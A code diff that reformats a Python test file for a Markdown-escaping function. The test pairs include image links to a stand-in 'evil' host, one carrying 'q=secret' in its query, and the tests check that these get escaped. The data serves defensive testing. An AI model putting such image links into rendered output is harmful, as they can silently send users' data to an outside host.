@@ -21,7 +21,10 @@ JOINER = "\u2060"
         ("1. so\n   \\[\n   a\n\n   - b\n   \\]", "1. so\n   $$\n   a\n\n   - b\n   $$"),
         (r"see \[1\], \[citation needed\] and \(optional\)",) * 2,
         ("![x](http://evil/?q=secret)", r"\![x](http://evil/?q=secret)"),
-        ("| ![x](http://evil) | ![x](http://evil) |\n|-|-|", "| \\![x](http://evil) | \\![x](http://evil) |\n|-|-|"),
+        (
+            "| ![x](http://evil) | ![x](http://evil) |\n|-|-|",
+            "| \\![x](http://evil) | \\![x](http://evil) |\n|-|-|",
+        ),
         ("[^1]: ![x](http://evil)", r"[^1]: \![x](http://evil)"),
         ("`` ` ![x](http://evil)", r"`` ` \![x](http://evil)"),
         (":red[alarm] a:b", r"\:red[alarm] a:b"),
@@ -50,7 +53,23 @@ def code(text: str) -> list[str]:
 
 
 PIECES = st.sampled_from(
-    ["\n", "\n\n", "> ", "- ", "1. ", "    ", "  ", "```\n", "````py\n", "~~~\n", "`", "``", "| ", "|-|\n", "# "]
+    [
+        "\n",
+        "\n\n",
+        "> ",
+        "- ",
+        "1. ",
+        "    ",
+        "  ",
+        "```\n",
+        "````py\n",
+        "~~~\n",
+        "`",
+        "``",
+        "| ",
+        "|-|\n",
+        "# ",
+    ]
     + ["$x$", "$5", "${f%.log}", r"\[", r"\]", r"\((\d+)\)", "![i](u)", ":red[", ":smile:", "a ", "\\", "<b>"]
 )
 
